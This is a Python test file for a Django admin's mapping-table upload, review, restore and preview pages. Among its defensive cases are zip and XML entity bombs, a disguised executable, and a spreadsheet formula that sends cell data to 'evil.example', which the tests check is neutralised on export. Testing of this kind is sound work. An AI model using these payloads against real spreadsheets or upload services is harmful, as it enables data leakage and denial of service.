"""The mapping pages in the admin: who may do what, uploads that lose nothing, preview."""

import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from integrations.mapping.admin import MappingUploadForm
from integrations.mapping.apply import Profile, mapping_apply
from integrations.mapping.store import mapping_rules_for, mapping_table_import
from integrations.models import MappingRule, MappingTableVersion
from tests.admin_html import column_values, readonly_value, text_of
from tests.core.deep_json import TOO_DEEP
from tests.factories import OAuthIntegrationFactory, make_staff
from tests.integrations.mapping.mapping_files import (
    BILLION_LAUGHS,
    GOOD_ROWS,
    HEADER,
    csv_bytes,
    xlsx_bytes,
    xlsx_with_part,
    xlsx_with_shared_strings,
    zip_bomb,
)

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
TABLES = FIXTURES / "mapping-tables"


@pytest.fixture
def integration(account):
    return OAuthIntegrationFactory(account=account)


@pytest.fixture
def other_integration(other_account):
    return OAuthIntegrationFactory(account=other_account)


@pytest.fixture
def mapped(integration, staff_user):
    """The integration with the keycloak table as its current mapping."""
    data = (TABLES / "keycloak-good.csv").read_bytes()
    outcome = mapping_table_import(
        integration=integration, user=staff_user, filename="keycloak-good.csv", data=data
    )
    assert outcome.status == "saved", outcome
    return integration


def url(name, integration, *args):
    return reverse(f"admin:integrations_mapping_{name}", args=[integration.pk, *args])


def stage(client, integration, filename, data):
    """Upload a table: a valid new one ends on its review page, live for nobody yet."""
    return client.post(
        url("upload", integration), {"table": SimpleUploadedFile(filename, data)}, follow=True
    )


def upload(client, integration, filename, data):
    """Upload a table and, when it reaches the review, publish it as staff would."""
    response = stage(client, integration, filename, data)
    if response.redirect_chain and "/review/" in response.redirect_chain[-1][0]:
        review = response.redirect_chain[-1][0]
        return client.post(review, {"action": "publish"}, follow=True)
    return response


def rule_rows(integration):
    return list(
        integration.mapping_rules.values_list(
            "target", "source", "transform", "fallback", "required"
        )
    )


# ---------------------------------------------------------------------------- permissions
@pytest.mark.django_db
@pytest.mark.parametrize("page", ["overview", "preview"])
def test_staff_and_the_accounts_administrators_see_the_mapping_pages(
    client, staff_user, admin_user_a, mapped, page
):
    for user in (staff_user, admin_user_a):
        client.force_login(user)
        response = client.get(url(page, mapped))
        assert response.status_code == 200
        assert b"address.postal_code" in response.content or page == "preview"


@pytest.mark.django_db
def test_administrators_see_no_upload_form_and_cannot_upload_or_restore(
    client, admin_user_a, mapped
):
    client.force_login(admin_user_a)
    assert b'enctype="multipart/form-data"' not in client.get(url("overview", mapped)).content
    before = rule_rows(mapped)
    response = client.post(
        url("upload", mapped), {"table": SimpleUploadedFile("t.csv", csv_bytes(GOOD_ROWS))}
    )
    assert response.status_code == 403
    version = mapped.mapping_versions.get()
    assert client.post(url("restore", mapped, version.pk)).status_code == 403
    assert rule_rows(mapped) == before


@pytest.mark.django_db
@pytest.mark.parametrize("user_fixture", ["editor_a", "admin_user_b"])
def test_editors_and_other_accounts_get_404_on_every_mapping_page(
    client, request, mapped, user_fixture
):
    client.force_login(request.getfixturevalue(user_fixture))
    version = mapped.mapping_versions.get()
    for response in [
        client.get(url("overview", mapped)),
        client.get(url("preview", mapped)),
        client.post(url("preview", mapped), {"profile_json": "{}"}),
        client.get(url("template", mapped, "csv")),
        client.get(url("template", mapped, "xlsx")),
        client.post(url("upload", mapped), {"table": SimpleUploadedFile("t.csv", b"x")}),
        client.post(url("restore", mapped, version.pk)),
    ]:
        assert response.status_code == 404


@pytest.mark.django_db
def test_rules_admin_is_read_only_for_administrators_and_scoped(
    client, admin_user_a, mapped, other_integration, staff_user
):
    mapping_table_import(
        integration=other_integration,
        user=staff_user,
        filename="b.csv",
        data=csv_bytes([["city", "b_only_claim", "", "", "no", ""]]),
    )
    client.force_login(admin_user_a)
    changelist = client.get(reverse("admin:integrations_mappingrule_changelist"))
    assert changelist.status_code == 200
    assert b"address.postal_code" in changelist.content
    assert b"b_only_claim" not in changelist.content
    assert client.get(reverse("admin:integrations_mappingrule_add")).status_code == 403
    rule = mapped.mapping_rules.get(target="city")
    change_url = reverse("admin:integrations_mappingrule_change", args=[rule.pk])
    page = client.get(change_url)
    assert page.status_code == 200 and b'name="source"' not in page.content  # read-only view
    response = client.post(change_url, {"integration": mapped.pk, "target": "city", "source": "x"})
    assert response.status_code == 403
    other_rule = other_integration.mapping_rules.get()
    other_url = reverse("admin:integrations_mappingrule_change", args=[other_rule.pk])
    assert client.get(other_url).status_code in (302, 404)
    assert MappingRule.objects.get(pk=rule.pk).source == "address.locality"


@pytest.mark.django_db
def test_editors_see_no_mapping_admin(client, editor_a, mapped):
    client.force_login(editor_a)
    assert client.get(reverse("admin:integrations_mappingrule_changelist")).status_code == 403
    assert (
        client.get(reverse("admin:integrations_mappingtableversion_changelist")).status_code == 403
    )


# ---------------------------------------------------------------------------- uploads
@pytest.mark.django_db
def test_staff_upload_replaces_the_rules_and_records_a_version(client, staff_user, mapped):
    client.force_login(staff_user)
    response = upload(client, mapped, "../../new table.xlsx", xlsx_bytes(GOOD_ROWS))
    assert b"3 rules from new table.xlsx are now the mapping" in response.content
    assert rule_rows(mapped) == [
        ("firstname", "given_name", "strip", "", True),
        ("email", "email", "strip|lower", "", True),
        ("country", "address.country", "country", "", False),
    ]
    current = mapped.mapping_versions.get(is_current=True)
    assert (current.filename, current.uploaded_by, len(current.rules)) == (
        "new table.xlsx",
        staff_user,
        3,
    )
    assert mapped.mapping_versions.count() == 2


@pytest.mark.django_db
def test_reuploading_the_same_file_changes_nothing(client, staff_user, mapped):
    client.force_login(staff_user)
    response = upload(client, mapped, "again.csv", (TABLES / "keycloak-good.csv").read_bytes())
    assert b"nothing changed" in response.content
    assert mapped.mapping_versions.count() == 1


@pytest.mark.django_db
def test_broken_table_shows_every_error_and_keeps_the_rules(client, staff_user, mapped):
    client.force_login(staff_user)
    before = rule_rows(mapped)
    response = upload(client, mapped, "broken.csv", (TABLES / "broken.csv").read_bytes())
    assert response.status_code == 200
    content = response.content.decode()
    assert "10 rows of broken.csv have errors; nothing was saved." in content
    for line in [2, 4, 5, 6, 7, 9, 10, 11, 12, 13]:
        assert f"<tr><td>{line}</td>" in content
    assert "<tr><td>8</td>" not in content and "<tr><td>3</td>" not in content
    assert rule_rows(mapped) == before
    assert mapped.mapping_versions.count() == 1


def _zip_entity_bomb():
    return xlsx_with_part(xlsx_bytes(GOOD_ROWS), "xl/worksheets/sheet1.xml", BILLION_LAUGHS)


WORKBOOK = xlsx_bytes(GOOD_ROWS)
BAD_UPLOADS = [
    # Damaged workbooks: the message names the damage, and nothing is stored.
    ("truncated.xlsx", WORKBOOK[: len(WORKBOOK) // 2], "damaged ZIP archive"),
    (
        "garbage-sheet.xlsx",
        xlsx_with_part(WORKBOOK, "xl/worksheets/sheet1.xml", b"<not xml"),
        "The XLSX workbook cannot be read: it is damaged",
    ),
    (
        "strings-bomb.xlsx",
        xlsx_with_shared_strings(WORKBOOK, BILLION_LAUGHS.replace(b"worksheet", b"sst")),
        "holds unsafe XML",
    ),
    ("empty.csv", b"", "The file is empty."),
    ("header.csv", csv_bytes([]), "header but no rules"),
    ("cols.csv", csv_bytes([], header=["FIELD", "Source", "notes"]), "missing column: required"),
    ("extra.csv", csv_bytes([], header=[*reversed(HEADER), "Colour"]), "unknown column: colour"),
    (
        "ansi.csv",
        csv_bytes([["lastname", "nom", "", "", "yes", "Müller"]], encoding="cp1252"),
        "not UTF-8",
    ),
    (
        "wide.csv",
        csv_bytes(GOOD_ROWS).decode().encode("utf-16-le"),
        "UTF-16 without a byte-order mark",
    ),
    ("program.xlsx", b"MZ\x90\x00" + bytes(range(256)) * 8, "not a ZIP archive"),
    ("program.csv", b"MZ\x90\x00" + bytes(range(256)) * 8, "NUL"),
    ("macro.xlsm", xlsx_bytes(GOOD_ROWS), ".xlsm files are not accepted"),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, ".xls files are not accepted"),
    ("bomb.xlsx", None, "expands to 60 MB"),
    ("laughs.xlsx", None, "unsafe XML"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("filename", "data", "message"), BAD_UPLOADS, ids=[b[0] for b in BAD_UPLOADS]
)
def test_bad_uploads_get_a_clear_message_and_lose_nothing(
    client, staff_user, mapped, filename, data, message
):
    if filename == "bomb.xlsx":
        data = zip_bomb()
    elif filename == "laughs.xlsx":
        data = _zip_entity_bomb()
    client.force_login(staff_user)
    before = rule_rows(mapped)
    response = upload(client, mapped, filename, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert rule_rows(mapped) == before
    assert mapped.mapping_versions.count() == 1


@pytest.mark.django_db
def test_an_upload_over_the_size_cap_is_refused_before_reading(
    client, staff_user, mapped, settings
):
    settings.MAPPING_UPLOAD_MAX_BYTES = 1024
    client.force_login(staff_user)
    before = rule_rows(mapped)
    data = csv_bytes([[f"custom_{i}", "claim", "", "", "no", "x" * 50] for i in range(40)])
    response = upload(client, mapped, "big.csv", data)
    assert "The file is larger than 1 KB, the limit." in response.content.decode()
    assert rule_rows(mapped) == before


@pytest.mark.django_db
def test_the_upload_form_checks_the_size_django_counted_too(settings):
    settings.MAPPING_UPLOAD_MAX_BYTES = 1024
    form = MappingUploadForm(files={"table": SimpleUploadedFile("big.csv", b"x" * 2048)})
    assert form.errors["table"] == ["The file is 2 KB; the limit is 1 KB."]


@pytest.mark.django_db
def test_upload_still_requires_the_csrf_token(staff_user, mapped):
    client = Client(enforce_csrf_checks=True)
    client.force_login(staff_user)
    response = client.post(
        url("upload", mapped), {"table": SimpleUploadedFile("t.csv", csv_bytes(GOOD_ROWS))}
    )
    assert response.status_code == 403
    assert mapped.mapping_versions.count() == 1

    client.get(url("overview", mapped))  # sets the CSRF cookie
    token = client.cookies["csrftoken"].value
    response = client.post(
        url("upload", mapped),
        {"csrfmiddlewaretoken": token, "table": SimpleUploadedFile("t.csv", csv_bytes(GOOD_ROWS))},
    )
    assert response.status_code == 302
    assert mapped.mapping_drafts.count() == 1  # accepted, for review


@pytest.mark.django_db
def test_a_failure_at_row_5000_of_10000_keeps_the_previous_rules(client, staff_user, mapped):
    rows = [[f"custom_{i:05d}", f"claims[{i}]", "", "", "no", ""] for i in range(10_000)]
    rows[4_999][2] = "capitalize"
    client.force_login(staff_user)
    before = rule_rows(mapped)
    response = upload(client, mapped, "big.csv", csv_bytes(rows))
    assert "<tr><td>5001</td>" in response.content.decode()
    assert rule_rows(mapped) == before


@pytest.mark.django_db
def test_ten_thousand_rows_import(client, staff_user, mapped):
    rows = [[f"custom_{i:05d}", f"claims[{i}]", "strip", "", "no", ""] for i in range(10_000)]
    client.force_login(staff_user)
    response = upload(client, mapped, "big.csv", csv_bytes(rows))
    assert b"10000 rules" in response.content
    assert mapped.mapping_rules.count() == 10_000


@pytest.mark.django_db
def test_formulas_are_stored_as_text_and_neutralised_on_export(
    client, staff_user, admin_user_a, integration
):
    client.force_login(staff_user)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
    upload(
        client,
        integration,
        "f.csv",
        csv_bytes([["lastname", "family_name", "", "", "yes", formula]]),
    )
    assert integration.mapping_rules.get().notes == formula

    client.force_login(admin_user_a)
    exported = client.get(url("template", integration, "csv"))
    assert exported["Content-Disposition"] == f'attachment; filename="mapping-{integration.pk}.csv"'
    assert b"'=HYPERLINK" in exported.content
    xlsx = client.get(url("template", integration, "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    assert sheet["F2"].value == "'" + formula


@pytest.mark.django_db
def test_template_without_rules_is_a_valid_starter_table(
    client, admin_user_a, integration, staff_user
):
    client.force_login(admin_user_a)
    response = client.get(url("template", integration, "xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Mapping", "Reference"]
    # Sent back as is, it uploads.
    client.force_login(staff_user)
    upload(client, integration, "starter.xlsx", response.content)
    assert integration.mapping_rules.count() == 10
    assert client.get(url("template", integration, "pdf")).status_code == 404


@pytest.mark.django_db
def test_restore_an_earlier_version(client, staff_user, mapped):
    client.force_login(staff_user)
    first = mapped.mapping_versions.get()
    upload(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
    assert mapped.mapping_rules.count() == 3

    response = client.post(url("restore", mapped, first.pk), follow=True)

    assert b"is the mapping again" in response.content
    assert mapped.mapping_rules.count() == 12
    assert mapped.mapping_versions.count() == 3
    current = mapped.mapping_versions.get(is_current=True)
    assert current.filename.startswith("restored: keycloak-good.csv")
    # The restored version's file, uploaded again, changes nothing.
    upload(client, mapped, "keycloak-good.csv", (TABLES / "keycloak-good.csv").read_bytes())
    assert mapped.mapping_versions.count() == 3


@pytest.mark.django_db
def test_staff_edit_a_rule_in_the_admin_and_it_is_a_new_version(client, staff_user, mapped):
    client.force_login(staff_user)
    rule = mapped.mapping_rules.get(target="city")
    change_url = reverse("admin:integrations_mappingrule_change", args=[rule.pk])
    form = {
        "integration": mapped.pk,
        "target": "city",
        "source": "address.locality",
        "transform": "strip|upper",
        "fallback": "",
        "notes": "",
    }
    bad = client.post(change_url, {**form, "transform": "capitalize"})
    assert bad.status_code == 200 and "unknown transform" in bad.content.decode()
    assert client.post(change_url, form).status_code == 302
    assert MappingRule.objects.get(pk=rule.pk).transform == "strip|upper"
    current = mapped.mapping_versions.get(is_current=True)
    assert current.filename == "edited in the admin"
    assert {
        "target": "city",
        "source": "address.locality",
        "transform": "strip|upper",
        "fallback": "",
        "required": False,
        "notes": "",
    } in current.rules
    client.post(change_url, form)  # saved again without a change: no new version
    assert mapped.mapping_versions.count() == 2
    duplicate = client.post(
        reverse("admin:integrations_mappingrule_add"), {**form, "transform": ""}
    )
    assert duplicate.status_code == 200 and MappingRule.objects.filter(target="city").count() == 1


@pytest.mark.django_db
def test_history_changelist_is_read_only(client, admin_user_a, mapped):
    client.force_login(admin_user_a)
    response = client.get(reverse("admin:integrations_mappingtableversion_changelist"))
    assert response.status_code == 200 and b"keycloak-good.csv" in response.content
    version = mapped.mapping_versions.get()
    delete_url = reverse("admin:integrations_mappingtableversion_delete", args=[version.pk])
    assert client.post(delete_url, {"post": "yes"}).status_code == 403
    assert MappingTableVersion.objects.count() == 1


def history_names(html: str) -> list[str]:
    """The "who" column of the history table on the mapping page."""
    table = re.search(r'<table id="mapping-history">(.*?)</table>', html, re.S).group(1)
    return [row[1].strip() for row in re.findall(r"<tr>\s*<td>(.*?)</td>\s*<td>(.*?)</td>", table)]


@pytest.mark.django_db
def test_the_account_sees_uploads_by_platform_staff_but_not_their_usernames(
    client, admin_user_a, integration
):
    staff = make_staff(username="ops-jane")
    for user, table in ((staff, "keycloak-good.csv"), (admin_user_a, "auth0-good.csv")):
        data = (TABLES / table).read_bytes()
        mapping_table_import(integration=integration, user=user, filename=table, data=data)
    pages = {
        "overview": url("overview", integration),
        "changelist": reverse("admin:integrations_mappingtableversion_changelist"),
    }
    staff_version = integration.mapping_versions.get(uploaded_by=staff)
    change = reverse("admin:integrations_mappingtableversion_change", args=[staff_version.pk])

    client.force_login(admin_user_a)
    overview = client.get(pages["overview"]).text
    assert history_names(overview) == ["admin-a", "Platform staff"]  # newest first
    changelist = client.get(pages["changelist"]).text
    assert column_values(changelist, "uploaded_by") == ["admin-a", "Platform staff"]
    assert readonly_value(client.get(change).text, "uploaded_by") == "Platform staff"
    for page in (overview, changelist):
        assert "ops-jane" not in page

    client.force_login(staff)  # platform staff may see who did it
    assert history_names(client.get(pages["overview"]).text) == ["admin-a", "ops-jane"]
    changelist = client.get(pages["changelist"]).text
    assert column_values(changelist, "uploaded_by") == ["admin-a", "ops-jane"]
    assert readonly_value(client.get(change).text, "uploaded_by") == "ops-jane"


# ---------------------------------------------------------------------------- preview
@pytest.mark.django_db
def test_preview_a_pasted_fixture_profile(client, admin_user_a, mapped):
    client.force_login(admin_user_a)
    profile = (FIXTURES / "idp-profiles" / "keycloak.json").read_text()
    response = client.post(url("preview", mapped), {"profile_json": profile})
    content = response.content.decode()
    assert response.status_code == 200
    assert "<strong>1987-03-14</strong>" in content
    assert "<strong>+32470123456</strong>" in content
    assert "<strong>BE</strong>" in content
    assert "<code>map:Belgique=BE;België=BE;Belgien=BE|country</code>" in content


@pytest.mark.django_db
def test_preview_plain_claims_shows_problems(client, staff_user, mapped):
    client.force_login(staff_user)
    claims = {"given_name": "Zoë", "birthdate": "1987-03-14", "email": "<b>z@example.be</b>"}
    response = client.post(url("preview", mapped), {"profile_json": json.dumps(claims)})
    content = response.content.decode()
    assert "<strong>Zoë</strong>" in content
    assert "transform_failed" in content  # birthdate is not DD/MM/YYYY
    assert "missing_required" in content  # no family_name
    assert "<b>z@example.be</b>" not in content  # escaped


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"profile_json": "{not json"}, "This is not valid JSON"),
        ({"profile_json": "[1, 2]"}, "This is not a profile"),
        ({"profile_json": ""}, "Paste a profile"),
        ({"profile_json": "", "use_last_test": "on"}, "There is no test login profile yet."),
    ],
)
def test_preview_form_errors(client, staff_user, mapped, data, message):
    client.force_login(staff_user)
    response = client.post(url("preview", mapped), data)
    assert response.status_code == 200 and message in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("profile", TOO_DEEP)
def test_preview_of_a_profile_nested_too_deeply_is_a_form_error(
    client, staff_user, mapped, profile
):
    client.force_login(staff_user)
    response = client.post(url("preview", mapped), {"profile_json": profile})
    assert response.status_code == 200
    assert "The sample profile is nested too deeply (more than 32 levels)." in (
        response.content.decode()
    )


@pytest.mark.django_db
def test_preview_with_the_last_test_login_profile(client, staff_user, mapped):
    mapped.last_test_profile = json.dumps(
        {"userinfo": {"given_name": "Test", "family_name": "Login", "email": "t@example.be"}}
    )
    mapped.save()
    client.force_login(staff_user)
    page = client.get(url("preview", mapped))
    assert b"use_last_test" in page.content
    response = client.post(url("preview", mapped), {"profile_json": "", "use_last_test": "on"})
    assert "<strong>Login</strong>" in response.content.decode()


@pytest.mark.django_db
def test_rules_for_an_integration_are_ready_for_mapping_apply(mapped):
    rules = mapping_rules_for(integration=mapped)
    assert [rule.target for rule in rules][:3] == ["firstname", "lastname", "email"]


# ---------------------------------------------------------------------------- rules per process
# Each login reads its integration's compiled rules from the process (integrations/mapping/
# store.py); every way staff change them must reach the next login at once.
def _targets(integration):
    return [rule.target for rule in mapping_rules_for(integration=integration)]


@pytest.mark.django_db
def test_an_upload_reaches_the_next_login_at_once(client, staff_user, mapped):
    assert len(_targets(mapped)) == 12  # read, and now kept
    client.force_login(staff_user)
    upload(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
    assert _targets(mapped) == [row[0] for row in GOOD_ROWS]


@pytest.mark.django_db
def test_a_restore_reaches_the_next_login_at_once(client, staff_user, mapped):
    first = mapped.mapping_versions.get()
    client.force_login(staff_user)
    upload(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
    assert len(_targets(mapped)) == 3
    client.post(url("restore", mapped, first.pk))
    assert len(_targets(mapped)) == 12


@pytest.mark.django_db
def test_an_edit_or_a_delete_in_the_admin_reaches_the_next_login_at_once(
    client, staff_user, mapped
):
    def city():
        profile = Profile(userinfo={"address": {"locality": " namur "}})
        rules = mapping_rules_for(integration=mapped)
        return mapping_apply(profile=profile, rules=rules).values.get("city")

    assert city() != "NAMUR"
    client.force_login(staff_user)
    rule = mapped.mapping_rules.get(target="city")
    form = {"integration": mapped.pk, "target": "city", "source": "address.locality"}
    change_url = reverse("admin:integrations_mappingrule_change", args=[rule.pk])
    assert client.post(change_url, {**form, "transform": "strip|upper"}).status_code == 302
    assert city() == "NAMUR"

    delete_url = reverse("admin:integrations_mappingrule_delete", args=[rule.pk])
    assert client.post(delete_url, {"post": "yes"}).status_code == 302
    assert "city" not in _targets(mapped)


@pytest.mark.django_db
def test_a_rule_saved_outside_the_admin_reaches_the_next_login(mapped):
    assert "favourite_colour" not in _targets(mapped)
    MappingRule.objects.create(
        integration=mapped, target="favourite_colour", source="colour", position=99
    )
    assert "favourite_colour" in _targets(mapped)


# ---------------------------------------------------------------------------- review first
@pytest.mark.django_db
def test_an_upload_is_reviewed_before_it_goes_live(client, staff_user, mapped):
    # The case: a valid table whose birthdate rule fails on the real profile.
    mapped.last_test_profile = json.dumps(
        {"userinfo": {"given_name": " ada ", "birthdate": "1990-04-12", "email": "A@X.BE"}}
    )
    mapped.save()
    before = rule_rows(mapped)
    rows = [
        ["firstname", "given_name", "strip", "", "yes", ""],
        ["email", "email", "strip|lower", "", "yes", ""],
        ["birthdate", "userinfo.birthdate", "date:%d/%m/%Y|strip", "", "no", ""],
        ["nickname", "preferred_username", "", "", "no", ""],
    ]
    client.force_login(staff_user)
    response = stage(client, mapped, "next.csv", csv_bytes(rows))

    assert rule_rows(mapped) == before  # nothing is live yet
    assert mapped.mapping_versions.count() == 1
    page = response.content.decode()
    summary = text_of(page, "#mapping-diff-summary")
    assert summary == "1 added, 3 changed, 9 removed, 0 unchanged."
    diff = text_of(page, "#mapping-diff")
    assert "nickname Added" in diff and "lastname Removed" in diff
    assert "birthdate Changed source userinfo.birthdate transform date:%d/%m/%Y" in diff
    dry_run = text_of(page, "#mapping-dry-run")
    assert "firstname * Ada ada Differs" in dry_run  # title is gone: the value changes
    assert "birthdate" in dry_run and "transform_failed" in dry_run

    response = client.post(response.redirect_chain[-1][0], {"action": "publish"}, follow=True)
    assert b"4 rules from next.csv are now the mapping" in response.content
    assert [row[0] for row in rule_rows(mapped)] == ["firstname", "email", "birthdate", "nickname"]
    assert mapped.mapping_drafts.count() == 0


@pytest.mark.django_db
def test_without_a_test_login_the_review_says_how_to_get_one(client, staff_user, mapped):
    client.force_login(staff_user)
    response = stage(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
    assert b"No test login yet" in response.content
    assert b'id="mapping-dry-run"' not in response.content


@pytest.mark.django_db
def test_a_discarded_upload_changes_nothing(client, staff_user, mapped):
    client.force_login(staff_user)
    before = rule_rows(mapped)
    review = stage(client, mapped, "new.csv", csv_bytes(GOOD_ROWS)).redirect_chain[-1][0]
    response = client.post(review, {"action": "discard"}, follow=True)
    assert b"new.csv was discarded; nothing changed." in response.content
    assert rule_rows(mapped) == before and mapped.mapping_drafts.count() == 0
    # Its review page is gone with it.
    assert b"published or discarded already" in client.get(review, follow=True).content


@pytest.mark.django_db
def test_publishing_after_the_mapping_changed_meanwhile_shows_the_new_differences(
    client, staff_user, mapped
):
    client.force_login(staff_user)
    review = stage(client, mapped, "mine.csv", csv_bytes(GOOD_ROWS)).redirect_chain[-1][0]
    upload(client, mapped, "theirs.csv", csv_bytes(GOOD_ROWS[:1]))  # someone else, first
    response = client.post(review, {"action": "publish"})
    assert response.status_code == 200
    assert b"The mapping changed while you were reviewing" in response.content
    assert text_of(response.content.decode(), "#mapping-diff-summary") == (
        "2 added, 0 changed, 0 removed, 1 unchanged."
    )
    assert [row[0] for row in rule_rows(mapped)] == ["firstname"]
    client.post(review, {"action": "publish"})  # reviewed again: it goes
    assert [row[0] for row in rule_rows(mapped)] == ["firstname", "email", "country"]


@pytest.mark.django_db
def test_restore_shows_the_same_review_and_asks_first(client, staff_user, mapped):
    client.force_login(staff_user)
    first = mapped.mapping_versions.get()
    upload(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
    overview = client.get(url("overview", mapped)).content.decode()
    assert f'href="{url("restore", mapped, first.pk)}"' in overview  # a link, not a button

    page = client.get(url("restore", mapped, first.pk)).content.decode()
    assert mapped.mapping_rules.count() == 3  # asking restores nothing
    assert text_of(page, "#mapping-diff-summary") == "9 added, 3 changed, 0 removed, 0 unchanged."
    assert 'value="Restore this version"' in page

    client.post(url("restore", mapped, first.pk))
    assert mapped.mapping_rules.count() == 12


@pytest.mark.django_db
def test_administrators_and_other_accounts_cannot_review_or_publish(
    client, staff_user, admin_user_a, admin_user_b, mapped
):
    client.force_login(staff_user)
    review = stage(client, mapped, "new.csv", csv_bytes(GOOD_ROWS)).redirect_chain[-1][0]
    before = rule_rows(mapped)
    for user, status in ((admin_user_a, 403), (admin_user_b, 404)):
        client.force_login(user)
        assert client.get(review).status_code == status
        assert client.post(review, {"action": "publish"}).status_code == status
    assert rule_rows(mapped) == before and mapped.mapping_drafts.count() == 1


@pytest.mark.django_db
def test_a_table_may_leave_out_the_optional_columns(client, staff_user, integration):
    client.force_login(staff_user)
    table = b"field,required,source\r\nfirstname,yes,given_name\r\nemail,no,email\r\n"
    response = upload(client, integration, "short.csv", table)
    assert b"2 rules from short.csv are now the mapping" in response.content
    assert rule_rows(integration) == [
        ("firstname", "given_name", "", "", True),
        ("email", "email", "", "", False),
    ]
